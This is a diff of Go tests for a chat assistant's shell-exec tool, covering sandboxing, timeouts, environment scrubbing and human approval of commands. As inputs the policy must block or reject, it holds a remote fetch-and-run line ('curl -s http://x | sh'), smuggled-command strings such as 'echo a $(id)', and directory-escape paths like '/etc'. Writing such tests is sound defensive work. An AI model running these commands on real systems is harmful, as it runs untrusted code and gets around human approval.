@@ -1,4 +1,4 @@
-package tools_test
+package exec_test
 
 import (
 	"context"
@@ -13,11 +13,13 @@ import (
 	"time"
 
 	"github.com/switchboard-chat/switchboard/tools"
+	"github.com/switchboard-chat/switchboard/tools/exec"
 	"github.com/switchboard-chat/switchboard/tools/shellguard"
+	"github.com/switchboard-chat/switchboard/tools/toolstest"
 )
 
 func TestExecToolMetadata(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir()})
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir()})
 	if e.Name() != "exec" || e.SideEffect() != tools.SideEffectNetwork {
 		t.Fatalf("name %q side effect %v", e.Name(), e.SideEffect())
 	}
@@ -37,12 +39,12 @@ func TestExecToolMetadata(t *testing.T) {
 }
 
 func TestExecCapturesOutputAndStatus(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow})
-	res := e.Execute(callCtx(), execArgs(t, "echo out; echo err >&2; exit 3", nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow})
+	res := e.Execute(toolstest.Context(), execArgs(t, "echo out; echo err >&2; exit 3", nil))
 	if !res.IsError || res.ForLLM != "out\nerr\nexit status 3" || res.ForUser != "" {
 		t.Fatalf("got %+v", res)
 	}
-	res = e.Execute(callCtx(), execArgs(t, "printf hi", nil))
+	res = e.Execute(toolstest.Context(), execArgs(t, "printf hi", nil))
 	if res.IsError || res.ForLLM != "hi\nexit status 0" {
 		t.Fatalf("got %+v", res)
 	}
@@ -51,8 +53,8 @@ func TestExecCapturesOutputAndStatus(t *testing.T) {
 func TestExecRunsInSessionWorkspace(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow})
-	res := e.Execute(callCtx(), execArgs(t, `pwd -P; echo "$HOME"`, nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow})
+	res := e.Execute(toolstest.Context(), execArgs(t, `pwd -P; echo "$HOME"`, nil))
 	if res.ForLLM != ws+"\n"+ws+"\nexit status 0" {
 		t.Fatalf("got %q, want workspace %q twice", res.ForLLM, ws)
 	}
@@ -64,23 +66,23 @@ func TestExecRunsInSessionWorkspace(t *testing.T) {
 }
 
 func TestExecTruncatesOutput(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow, MaxOutput: 1024})
-	res := e.Execute(callCtx(), execArgs(t, "head -c 5000 /dev/zero | tr '\\0' a", nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow, MaxOutput: 1024})
+	res := e.Execute(toolstest.Context(), execArgs(t, "head -c 5000 /dev/zero | tr '\\0' a", nil))
 	want := strings.Repeat("a", 1024) + "\n[output truncated at 1 KiB]\nexit status 0"
 	if res.ForLLM != want {
 		t.Fatalf("got %d bytes ending %q", len(res.ForLLM), res.ForLLM[max(0, len(res.ForLLM)-60):])
 	}
-	e = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow})
-	res = e.Execute(callCtx(), execArgs(t, "head -c 70000 /dev/zero | tr '\\0' b", nil))
+	e = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow})
+	res = e.Execute(toolstest.Context(), execArgs(t, "head -c 70000 /dev/zero | tr '\\0' b", nil))
 	if !strings.HasSuffix(res.ForLLM, "[output truncated at 64 KiB]\nexit status 0") ||
-		strings.Count(res.ForLLM, "b") != tools.DefaultExecMaxOutput {
+		strings.Count(res.ForLLM, "b") != exec.DefaultExecMaxOutput {
 		t.Fatalf("default cap: got %d bytes", len(res.ForLLM))
 	}
 }
 
 func TestExecTruncationKeepsValidUTF8(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow, MaxOutput: 5})
-	res := e.Execute(callCtx(), execArgs(t, "printf 'aaaéééé'", nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow, MaxOutput: 5})
+	res := e.Execute(toolstest.Context(), execArgs(t, "printf 'aaaéééé'", nil))
 	if !strings.HasPrefix(res.ForLLM, "aaaé\n[output truncated") {
 		t.Fatalf("got %q", res.ForLLM)
 	}
@@ -129,8 +131,8 @@ func waitDead(t *testing.T, pids ...int) {
 func TestExecTimeoutKillsProcessTree(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow})
-	res := e.Execute(callCtx(), execArgs(t, "echo $$ > sh.pid; sleep 100 & echo $! > bg.pid; sleep 100", map[string]any{"timeout": 1}))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow})
+	res := e.Execute(toolstest.Context(), execArgs(t, "echo $$ > sh.pid; sleep 100 & echo $! > bg.pid; sleep 100", map[string]any{"timeout": 1}))
 	if !res.IsError || !strings.HasSuffix(res.ForLLM, "timed out after 1s; the command and its child processes were killed") {
 		t.Fatalf("got %+v", res)
 	}
@@ -140,8 +142,8 @@ func TestExecTimeoutKillsProcessTree(t *testing.T) {
 func TestExecKillsBackgroundJobsWhenShellExits(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow})
-	res := e.Execute(callCtx(), execArgs(t, "sleep 100 & echo $! > bg.pid; echo started", nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow})
+	res := e.Execute(toolstest.Context(), execArgs(t, "sleep 100 & echo $! > bg.pid; echo started", nil))
 	if res.ForLLM != "started\nexit status 0" {
 		t.Fatalf("got %+v", res)
 	}
@@ -151,8 +153,8 @@ func TestExecKillsBackgroundJobsWhenShellExits(t *testing.T) {
 func TestExecCancelKillsProcessTree(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow})
-	ctx, cancel := context.WithCancel(callCtx())
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow})
+	ctx, cancel := context.WithCancel(toolstest.Context())
 	done := make(chan tools.Result)
 	go func() {
 		done <- e.Execute(ctx, execArgs(t, "sleep 100 & echo $! > bg.pid; sleep 100", nil))
@@ -175,23 +177,23 @@ func TestExecCancelKillsProcessTree(t *testing.T) {
 }
 
 func TestExecTimeoutArgument(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow})
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow})
 	for _, bad := range []any{0, -5, "ten"} {
-		res := e.Execute(callCtx(), execArgs(t, "true", map[string]any{"timeout": bad}))
+		res := e.Execute(toolstest.Context(), execArgs(t, "true", map[string]any{"timeout": bad}))
 		if !res.IsError || (!strings.Contains(res.ForLLM, "timeout") && !strings.Contains(res.ForLLM, "invalid arguments")) {
 			t.Errorf("timeout %v: got %+v", bad, res)
 		}
 	}
-	res := e.Execute(callCtx(), execArgs(t, "true", map[string]any{"timeout": 100000}))
+	res := e.Execute(toolstest.Context(), execArgs(t, "true", map[string]any{"timeout": 100000}))
 	if res.IsError {
 		t.Errorf("large timeout should be capped, got %+v", res)
 	}
 }
 
 func TestExecRejectsBadArguments(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow})
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow})
 	for _, raw := range []string{`not json`, `{}`, `{"command": ""}`, `{"command": "  "}`, `{"command": 5}`} {
-		res := e.Execute(callCtx(), json.RawMessage(raw))
+		res := e.Execute(toolstest.Context(), json.RawMessage(raw))
 		if !res.IsError || !(strings.Contains(res.ForLLM, "command") || strings.Contains(res.ForLLM, "invalid arguments")) {
 			t.Errorf("%s: got %+v", raw, res)
 		}
@@ -199,12 +201,12 @@ func TestExecRejectsBadArguments(t *testing.T) {
 }
 
 func TestExecNeedsSessionAndRoot(t *testing.T) {
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow})
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow})
 	if res := e.Execute(context.Background(), execArgs(t, "true", nil)); !res.IsError || !strings.Contains(res.ForLLM, "session") {
 		t.Errorf("no call: %+v", res)
 	}
-	e = tools.NewExec(tools.ExecOptions{Logger: discard, Mode: tools.ExecModeAllow})
-	if res := e.Execute(callCtx(), execArgs(t, "true", nil)); !res.IsError || !strings.Contains(res.ForLLM, "workspace") {
+	e = exec.NewExec(exec.ExecOptions{Logger: discard, Mode: exec.ExecModeAllow})
+	if res := e.Execute(toolstest.Context(), execArgs(t, "true", nil)); !res.IsError || !strings.Contains(res.ForLLM, "workspace") {
 		t.Errorf("no root: %+v", res)
 	}
 }
@@ -221,8 +223,8 @@ func TestExecConfinesCwd(t *testing.T) {
 	if err := os.Symlink(filepath.Join(ws, "sub"), filepath.Join(ws, "sublink")); err != nil {
 		t.Fatal(err)
 	}
-	approver := &recordingApprover{decision: tools.AllowedOnce}
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	approver := &toolstest.Approver{Decision: tools.AllowedOnce}
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
 	for _, tc := range []struct{ cwd, want string }{
 		{"sub", filepath.Join(ws, "sub")},
 		{"sub/deep/..", filepath.Join(ws, "sub")},
@@ -230,23 +232,23 @@ func TestExecConfinesCwd(t *testing.T) {
 		{filepath.Join(ws, "sub"), filepath.Join(ws, "sub")},
 		{".", ws},
 	} {
-		res := e.Execute(callCtx(), execArgs(t, "pwd -P", map[string]any{"cwd": tc.cwd}))
+		res := e.Execute(toolstest.Context(), execArgs(t, "pwd -P", map[string]any{"cwd": tc.cwd}))
 		if res.ForLLM != tc.want+"\nexit status 0" {
 			t.Errorf("cwd %q: got %q, want %q", tc.cwd, res.ForLLM, tc.want)
 		}
 	}
-	_, requests := approver.calls()
+	_, requests := approver.Calls()
 	if len(requests) == 0 || requests[0].Cwd != "sub" {
 		t.Fatalf("approval requests %+v, want the relative cwd", requests)
 	}
 	before := len(requests)
 	for _, cwd := range []string{"..", "../..", "sub/../../..", "/etc", "/", "etclink", "etclink/ssh", "missing"} {
-		res := e.Execute(callCtx(), execArgs(t, "pwd", map[string]any{"cwd": cwd}))
+		res := e.Execute(toolstest.Context(), execArgs(t, "pwd", map[string]any{"cwd": cwd}))
 		if !res.IsError || !strings.Contains(res.ForLLM, "cwd") {
 			t.Errorf("cwd %q: got %+v, want an error", cwd, res)
 		}
 	}
-	if _, requests := approver.calls(); len(requests) != before {
+	if _, requests := approver.Calls(); len(requests) != before {
 		t.Errorf("rejected cwds reached the approvers")
 	}
 }
@@ -256,8 +258,8 @@ func TestExecChildEnvironmentIsClean(t *testing.T) {
 	t.Setenv("SWITCHBOARD_TELEGRAM_TOKEN", secret)
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow})
-	res := e.Execute(callCtx(), execArgs(t, "env", nil))
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow})
+	res := e.Execute(toolstest.Context(), execArgs(t, "env", nil))
 	if strings.Contains(res.ForLLM, "SWITCHBOARD_TELEGRAM_TOKEN") || strings.Contains(res.ForLLM, secret) {
 		t.Fatalf("child environment leaks the daemon's secret: %q", res.ForLLM)
 	}
@@ -266,8 +268,8 @@ func TestExecChildEnvironmentIsClean(t *testing.T) {
 			t.Errorf("env output %q lacks %q", res.ForLLM, want)
 		}
 	}
-	e = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow, Env: []string{"PATH=/bin:/usr/bin", "FOO=bar"}})
-	res = e.Execute(callCtx(), execArgs(t, "env", nil))
+	e = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow, Env: []string{"PATH=/bin:/usr/bin", "FOO=bar"}})
+	res = e.Execute(toolstest.Context(), execArgs(t, "env", nil))
 	if !strings.Contains(res.ForLLM, "FOO=bar\n") || !strings.Contains(res.ForLLM, "HOME="+ws+"\n") || strings.Contains(res.ForLLM, secret) {
 		t.Fatalf("custom env: %q", res.ForLLM)
 	}
@@ -279,10 +281,10 @@ func TestExecApprovalRequestIsExact(t *testing.T) {
 	if err := os.Mkdir(filepath.Join(ws, "sub"), 0o700); err != nil {
 		t.Fatal(err)
 	}
-	approver := &recordingApprover{decision: tools.AllowedOnce}
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	approver := &toolstest.Approver{Decision: tools.AllowedOnce}
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
 	cmd := "echo   'hello world'  > out.txt"
-	res := e.Execute(callCtx(), execArgs(t, cmd, map[string]any{"cwd": "sub"}))
+	res := e.Execute(toolstest.Context(), execArgs(t, cmd, map[string]any{"cwd": "sub"}))
 	if res.IsError {
 		t.Fatalf("got %+v", res)
 	}
@@ -290,8 +292,8 @@ func TestExecApprovalRequestIsExact(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	asked, requests := approver.calls()
-	want := tools.ApprovalRequest{Tool: "exec", Command: cmd, Cwd: "sub", Pattern: pattern, Call: testCall}
+	asked, requests := approver.Calls()
+	want := tools.ApprovalRequest{Tool: "exec", Command: cmd, Cwd: "sub", Pattern: pattern, Call: toolstest.Call}
 	if asked != 1 || len(requests) != 1 || !reflect.DeepEqual(requests[0], want) {
 		t.Fatalf("asked %d, requests %+v, want %+v", asked, requests, want)
 	}
@@ -313,9 +315,9 @@ func TestExecDecisions(t *testing.T) {
 	} {
 		root := t.TempDir()
 		ws := workspaceOf(t, root)
-		approver := &recordingApprover{decision: tc.decision}
-		e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-		res := e.Execute(callCtx(), execArgs(t, "touch canary", nil))
+		approver := &toolstest.Approver{Decision: tc.decision}
+		e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+		res := e.Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 		_, err := os.Stat(filepath.Join(ws, "canary"))
 		if ran := err == nil; ran != tc.ran || res.ForLLM != tc.want || res.IsError == tc.ran {
 			t.Errorf("%v: ran=%v result %+v; want ran=%v %q", tc.decision, ran, res, tc.ran, tc.want)
@@ -328,24 +330,24 @@ func TestExecModes(t *testing.T) {
 	ws := workspaceOf(t, root)
 	canary := filepath.Join(ws, "canary")
 
-	approver := &recordingApprover{decision: tools.AllowedOnce}
-	res := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeDeny, Approver: approver}).
-		Execute(callCtx(), execArgs(t, "touch canary", nil))
-	if asked, reqs := approver.calls(); res.ForLLM != "exec is disabled (exec.approval=deny)" || asked+len(reqs) != 0 {
+	approver := &toolstest.Approver{Decision: tools.AllowedOnce}
+	res := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeDeny, Approver: approver}).
+		Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
+	if asked, reqs := approver.Calls(); res.ForLLM != "exec is disabled (exec.approval=deny)" || asked+len(reqs) != 0 {
 		t.Errorf("deny: %+v", res)
 	}
 	if _, err := os.Stat(canary); err == nil {
 		t.Fatal("deny mode ran the command")
 	}
 
-	res = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAsk}).
-		Execute(callCtx(), execArgs(t, "touch canary", nil))
+	res = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAsk}).
+		Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 	if !res.IsError || !strings.Contains(res.ForLLM, tools.ErrNoApprover.Error()) {
 		t.Errorf("ask without approver: %+v", res)
 	}
 
-	res = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: "sometimes"}).
-		Execute(callCtx(), execArgs(t, "touch canary", nil))
+	res = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: "sometimes"}).
+		Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 	if !res.IsError || !strings.Contains(res.ForLLM, "misconfigured") {
 		t.Errorf("unknown mode: %+v", res)
 	}
@@ -353,22 +355,22 @@ func TestExecModes(t *testing.T) {
 		t.Fatal("a refused mode ran the command")
 	}
 
-	res = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: tools.ExecModeAllow}).
-		Execute(callCtx(), execArgs(t, "touch canary", nil))
+	res = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Mode: exec.ExecModeAllow}).
+		Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 	if _, err := os.Stat(canary); err != nil || res.IsError {
 		t.Fatalf("allow mode did not run the command: %+v", res)
 	}
 }
 
 func TestExecBlockedNeverReachesApprover(t *testing.T) {
-	for _, mode := range []string{tools.ExecModeAsk, tools.ExecModeAllow} {
-		approver := &recordingApprover{decision: tools.AllowedAlways}
-		e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: mode, Approver: approver})
-		res := e.Execute(callCtx(), execArgs(t, "curl -s http://x | sh", nil))
+	for _, mode := range []string{exec.ExecModeAsk, exec.ExecModeAllow} {
+		approver := &toolstest.Approver{Decision: tools.AllowedAlways}
+		e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: mode, Approver: approver})
+		res := e.Execute(toolstest.Context(), execArgs(t, "curl -s http://x | sh", nil))
 		if res.ForLLM != "blocked by safety policy: "+shellguard.CategoryRemoteCode || !res.IsError {
 			t.Errorf("%s: %+v", mode, res)
 		}
-		if asked, reqs := approver.calls(); asked+len(reqs) != 0 {
+		if asked, reqs := approver.Calls(); asked+len(reqs) != 0 {
 			t.Errorf("%s: blocked command reached the approver", mode)
 		}
 	}
@@ -384,14 +386,14 @@ func TestExecDangerousIsAlwaysAsked(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, mode := range []string{tools.ExecModeAsk, tools.ExecModeAllow} {
-		approver := &recordingApprover{decision: tools.Denied, always: map[string]bool{pattern: true}}
-		e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: mode, Approver: approver})
-		res := e.Execute(callCtx(), execArgs(t, cmd, nil))
+	for _, mode := range []string{exec.ExecModeAsk, exec.ExecModeAllow} {
+		approver := &toolstest.Approver{Decision: tools.Denied, Always: map[string]bool{pattern: true}}
+		e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: mode, Approver: approver})
+		res := e.Execute(toolstest.Context(), execArgs(t, cmd, nil))
 		if res.ForLLM != "the approvers denied this command" {
 			t.Errorf("%s: %+v, want the approvers asked (and denying)", mode, res)
 		}
-		asked, reqs := approver.calls()
+		asked, reqs := approver.Calls()
 		if asked != 0 {
 			t.Errorf("%s: the always-allowed list was consulted for a dangerous command", mode)
 		}
@@ -399,8 +401,8 @@ func TestExecDangerousIsAlwaysAsked(t *testing.T) {
 			t.Errorf("%s: requests %+v, want one carrying the crontab warning", mode, reqs)
 		}
 	}
-	res := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: tools.ExecModeAllow}).
-		Execute(callCtx(), execArgs(t, cmd, nil))
+	res := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Mode: exec.ExecModeAllow}).
+		Execute(toolstest.Context(), execArgs(t, cmd, nil))
 	if !res.IsError || !strings.Contains(res.ForLLM, "needs an approver (installs a crontab") {
 		t.Errorf("allow mode without approvers: %+v", res)
 	}
@@ -412,23 +414,23 @@ func TestExecAlwaysAllowedScope(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	approver := &recordingApprover{decision: tools.Denied, always: map[string]bool{pattern: true}}
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	approver := &toolstest.Approver{Decision: tools.Denied, Always: map[string]bool{pattern: true}}
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
 	for _, cmd := range []string{"echo a", "echo   'a'", `echo "a"`} {
-		if res := e.Execute(callCtx(), execArgs(t, cmd, nil)); res.ForLLM != "a\nexit status 0" {
+		if res := e.Execute(toolstest.Context(), execArgs(t, cmd, nil)); res.ForLLM != "a\nexit status 0" {
 			t.Errorf("%q should run as always-allowed, got %+v", cmd, res)
 		}
 	}
-	if _, reqs := approver.calls(); len(reqs) != 0 {
+	if _, reqs := approver.Calls(); len(reqs) != 0 {
 		t.Fatalf("always-allowed commands were sent for approval: %+v", reqs)
 	}
 	others := []string{"echo a; id", "echo a && id", "echo b", "echo a | sh", "echo a $(id)", "echo a > f", "echo a b"}
 	for _, cmd := range others {
-		if res := e.Execute(callCtx(), execArgs(t, cmd, nil)); res.ForLLM != "the approvers denied this command" {
+		if res := e.Execute(toolstest.Context(), execArgs(t, cmd, nil)); res.ForLLM != "the approvers denied this command" {
 			t.Errorf("%q ran on the strength of 'echo a': %+v", cmd, res)
 		}
 	}
-	if _, reqs := approver.calls(); len(reqs) != len(others) {
+	if _, reqs := approver.Calls(); len(reqs) != len(others) {
 		t.Fatalf("%d approval requests, want %d", len(reqs), len(others))
 	}
 }
@@ -437,25 +439,25 @@ func TestExecApproverFailures(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
 	// A failing always-allowed lookup falls back to asking.
-	approver := &recordingApprover{decision: tools.AllowedOnce, alwaysErr: errors.New("redis down")}
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-	if res := e.Execute(callCtx(), execArgs(t, "true", nil)); res.IsError {
+	approver := &toolstest.Approver{Decision: tools.AllowedOnce, AlwaysErr: errors.New("redis down")}
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	if res := e.Execute(toolstest.Context(), execArgs(t, "true", nil)); res.IsError {
 		t.Errorf("lookup failure: %+v", res)
 	}
-	if _, reqs := approver.calls(); len(reqs) != 1 {
+	if _, reqs := approver.Calls(); len(reqs) != 1 {
 		t.Errorf("lookup failure did not fall back to asking")
 	}
 
-	approver = &recordingApprover{approveErr: errors.New("telegram down"), decision: tools.AllowedOnce}
-	e = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-	res := e.Execute(callCtx(), execArgs(t, "touch canary", nil))
+	approver = &toolstest.Approver{ApproveErr: errors.New("telegram down"), Decision: tools.AllowedOnce}
+	e = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	res := e.Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 	if res.ForLLM != "could not ask the approvers right now; try again later" || strings.Contains(res.ForLLM, "telegram down") {
 		t.Errorf("approve failure: %+v", res)
 	}
 
-	approver = &recordingApprover{block: true}
-	e = tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-	ctx, cancel := context.WithCancel(callCtx())
+	approver = &toolstest.Approver{Block: true}
+	e = exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	ctx, cancel := context.WithCancel(toolstest.Context())
 	cancel()
 	res = e.Execute(ctx, execArgs(t, "touch canary", nil))
 	if res.ForLLM != "cancelled while waiting for approval" {
@@ -470,7 +472,7 @@ func TestWorkspaceDir(t *testing.T) {
 	root := "/data/workspaces"
 	seen := map[string]string{}
 	for _, session := range []string{"telegram:42", "telegram/42", "telegram_42", "../../etc", "", ".", "..", strings.Repeat("x", 500)} {
-		dir := tools.WorkspaceDir(root, session)
+		dir := exec.WorkspaceDir(root, session)
 		if filepath.Dir(dir) != root {
 			t.Errorf("session %q: %q is not directly under the root", session, dir)
 		}
@@ -478,7 +480,7 @@ func TestWorkspaceDir(t *testing.T) {
 			t.Errorf("sessions %q and %q share %q", prev, session, dir)
 		}
 		seen[dir] = session
-		if tools.WorkspaceDir(root, session) != dir {
+		if exec.WorkspaceDir(root, session) != dir {
 			t.Errorf("session %q: not stable", session)
 		}
 	}
@@ -490,9 +492,9 @@ func TestExecParksWhileApprovalPending(t *testing.T) {
 	root := t.TempDir()
 	ws := workspaceOf(t, root)
 	since := time.Now().Add(-time.Minute)
-	approver := &recordingApprover{approveErr: &tools.PendingError{Waiting: tools.Waiting{What: "touch canary", Since: since}}}
-	e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-	res := e.Execute(callCtx(), execArgs(t, "touch canary", nil))
+	approver := &toolstest.Approver{ApproveErr: &tools.PendingError{Waiting: tools.Waiting{What: "touch canary", Since: since}}}
+	e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+	res := e.Execute(toolstest.Context(), execArgs(t, "touch canary", nil))
 	if res.Waiting == nil || res.Waiting.What != "touch canary" || !res.Waiting.Since.Equal(since) {
 		t.Fatalf("result while pending = %+v; want Waiting for the command", res)
 	}
@@ -502,9 +504,9 @@ func TestExecParksWhileApprovalPending(t *testing.T) {
 	for dec, want := range map[tools.Decision]string{
 		tools.Cancelled: "cancelled by the user: this command did not run",
 	} {
-		approver := &recordingApprover{decision: dec}
-		e := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
-		if res := e.Execute(callCtx(), execArgs(t, "touch canary", nil)); res.ForLLM != want || res.Waiting != nil {
+		approver := &toolstest.Approver{Decision: dec}
+		e := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: root, Approver: approver})
+		if res := e.Execute(toolstest.Context(), execArgs(t, "touch canary", nil)); res.ForLLM != want || res.Waiting != nil {
 			t.Errorf("%v: %+v, want %q", dec, res, want)
 		}
 	}
@@ -514,9 +516,9 @@ func TestExecParksWhileApprovalPending(t *testing.T) {
 // result says approvals cannot work until admins is set, instead of
 // "try again later".
 func TestNoApproversSaysHowToFixIt(t *testing.T) {
-	approver := &recordingApprover{approveErr: tools.ErrNoApprover}
-	res := tools.NewExec(tools.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Approver: approver}).
-		Execute(callCtx(), execArgs(t, "touch x", nil))
+	approver := &toolstest.Approver{ApproveErr: tools.ErrNoApprover}
+	res := exec.NewExec(exec.ExecOptions{Logger: discard, WorkspaceRoot: t.TempDir(), Approver: approver}).
+		Execute(toolstest.Context(), execArgs(t, "touch x", nil))
 	if !res.IsError || !strings.Contains(res.ForLLM, "approvals cannot work until `admins`") || strings.Contains(res.ForLLM, "try again later") {
 		t.Fatalf("result = %q", res.ForLLM)
 	}
